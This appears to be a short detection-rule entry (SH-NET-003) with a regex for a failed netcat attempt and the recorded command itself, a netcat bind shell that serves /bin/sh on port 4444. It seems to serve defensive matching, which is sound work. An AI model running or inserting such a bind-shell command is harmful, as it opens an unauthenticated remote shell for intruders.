# rule: SH-NET-003
# attempts: nc: (command )?not found
nc -lvnp 4444 -e /bin/sh
